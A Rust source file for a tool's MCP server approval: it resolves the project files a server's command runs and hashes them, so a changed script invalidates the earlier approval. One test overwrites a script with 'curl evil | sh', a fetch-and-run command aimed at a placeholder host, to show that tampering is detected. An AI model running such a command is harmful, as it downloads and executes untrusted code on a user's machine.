//! The project files a project MCP server's command runs, for its approval: a server runs
//! outside the sandbox, so approving `node server.js` approves `server.js` as it reads then.
//! [`named_project_files`] takes the entry's command (when it is a path) and arguments (and the
//! value of a `--flag=value`), resolves each against the server's folder, and keeps the regular
//! files that lie inside the project after symlinks, each with its SHA-256; [`super::approval`]
//! adds them to the entry's hash, so a changed script holds the server like a changed entry.
//! Folders (a filesystem server's root, `.`) are data a server is given, not code it runs, and
//! are left out; an entry naming no project file keeps the hash it had before.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use sha2::{Digest, Sha256};

use super::config::{ServerConfig, Transport};

/// Arguments looked at per entry.
const ARGS_MAX: usize = 64;

/// Each project file the entry runs (absolute, after symlinks) → its SHA-256 (or why it can't
/// be read: then it can't match an approval of readable content).
pub fn named_project_files(server: &ServerConfig, root: &Path) -> BTreeMap<String, String> {
    let Transport::Stdio {
        command, args, cwd, ..
    } = &server.transport
    else {
        return BTreeMap::new();
    };
    let Ok(root) = root.canonicalize() else {
        return BTreeMap::new();
    };
    let base = match cwd {
        Some(c) if c.is_absolute() => c.clone(),
        Some(c) => root.join(c),
        None => root.clone(),
    };
    let mut words: Vec<&str> = Vec::new();
    if command.contains('/') {
        words.push(command);
    }
    for arg in args.iter().take(ARGS_MAX) {
        words.push(arg);
        if let Some((_, value)) = arg.split_once('=') {
            words.push(value);
        }
    }
    let mut out = BTreeMap::new();
    for word in words {
        if word.is_empty() || word.starts_with('-') || word.contains("://") {
            continue;
        }
        let path: PathBuf = base.join(word);
        let Ok(real) = path.canonicalize() else {
            continue;
        };
        if !real.starts_with(&root) || !std::fs::metadata(&real).is_ok_and(|m| m.is_file()) {
            continue;
        }
        let hash = match synapse_shared::bounded::read_bytes(
            &real,
            Some(&root),
            synapse_shared::bounded::CONFIG_MAX_BYTES,
        ) {
            Ok(bytes) => Sha256::digest(&bytes)
                .iter()
                .map(|b| format!("{b:02x}"))
                .collect(),
            Err(e) => format!("unreadable: {e}"),
        };
        out.insert(real.display().to_string(), hash);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::filter::ToolFilter;
    use std::time::Duration;

    fn server(command: &str, args: &[&str]) -> ServerConfig {
        ServerConfig {
            name: "s".into(),
            transport: Transport::Stdio {
                command: command.into(),
                args: args.iter().map(|a| a.to_string()).collect(),
                env: BTreeMap::new(),
                cwd: None,
            },
            enabled: true,
            filter: ToolFilter::default(),
            startup_timeout: Duration::from_secs(5),
            call_timeout: Duration::from_secs(5),
            oauth: None,
            source: PathBuf::from("/p/.mcp.json"),
            follow_project: false,
        }
    }

    #[test]
    fn scripts_inside_the_project_are_named_with_their_hash_folders_and_outside_files_not() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        std::fs::create_dir_all(root.join("tools")).unwrap();
        std::fs::write(root.join("tools/server.js"), "serve()").unwrap();
        std::fs::write(root.join("run.sh"), "exec node tools/server.js").unwrap();
        let named = named_project_files(
            &server(
                "node",
                &["tools/server.js", ".", "/bin/sh", "--config=run.sh"],
            ),
            &root,
        );
        let keys: Vec<&String> = named.keys().collect();
        assert_eq!(
            keys,
            [
                &root.join("run.sh").display().to_string(),
                &root.join("tools/server.js").display().to_string()
            ]
        );
        assert!(named_project_files(&server("npx", &["-y", "pkg"]), &root).is_empty());
        let before = named_project_files(&server("./run.sh", &[]), &root);
        std::fs::write(root.join("run.sh"), "curl evil | sh").unwrap();
        assert_ne!(before, named_project_files(&server("./run.sh", &[]), &root));
    }
}
